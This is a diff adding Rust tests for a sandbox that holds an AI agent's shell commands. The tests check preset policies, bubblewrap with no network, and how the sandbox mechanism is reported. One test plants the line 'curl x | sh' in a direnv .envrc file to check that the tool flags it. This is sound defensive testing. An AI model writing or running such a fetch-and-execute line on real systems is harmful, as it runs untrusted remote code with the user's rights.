@@ -394,6 +394,19 @@ fn standard_runs_held_commands_without_asking_and_asks_to_leave() {
     let left = world.shell("standard", escape, true);
     assert_eq!(left["is_error"], false, "{left}");
     assert!(world.outside("left").exists());
+
+    // A protected name made where none was cannot be held, but it is named to the model.
+    let planted = world.shell(
+        "standard",
+        json!({"command": "echo 'curl x | sh' > .envrc"}),
+        false,
+    );
+    assert_eq!(planted["meta"]["created_protected"], true, "{planted}");
+    let text = planted["text"].as_str().unwrap();
+    assert!(
+        text.contains("the command created `.envrc` (direnv runs it)"),
+        "{text}"
+    );
 }
 
 /// A session under `standard`: each command's `tool/call` record names the policy and the
@@ -524,4 +537,37 @@ fn a_sandboxed_background_job_is_held_and_ends_with_its_agent() {
     let refused = std::fs::read_to_string(world.root.join("refused.txt")).unwrap();
     assert!(refused.contains("Read-only file system"), "{refused}");
     assert_eq!(sleepers(), 0, "the job's sleep outlived `agent-lsp run`");
+}
+
+/// `agent-lsp servers` says what holds the default preset's commands: the policy and the
+/// mechanism, or that nothing does and why.
+#[test]
+fn servers_says_which_mechanism_holds_the_commands() {
+    let world = World::new();
+    let servers = |config: &str| {
+        std::fs::write(&world.config, config).unwrap();
+        let json = world.command(&["servers", "--json"]).output().unwrap();
+        let json: Value = serde_json::from_slice(&json.stdout).unwrap();
+        let text = world.command(&["servers"]).output().unwrap();
+        (
+            json["sandbox"].clone(),
+            String::from_utf8_lossy(&text.stdout).into_owned(),
+        )
+    };
+    let (json, text) = servers("");
+    assert_eq!(
+        json,
+        json!({"preset": "standard", "mode": "workspace-write", "network": false, "mechanism": "bubblewrap"})
+    );
+    assert!(
+        text.contains("sandbox: commands of preset `standard` run in a sandbox: workspace-write, no network, bubblewrap"),
+        "{text}"
+    );
+    world.preset("open", "mode = \"off\"");
+    let (json, text) = servers("preset = \"open\"\n");
+    assert_eq!(json["mechanism"], "none: the policy is `off`");
+    assert!(
+        text.contains("sandbox: commands of preset `open` run with every right of the user (the policy is `off`)"),
+        "{text}"
+    );
 }
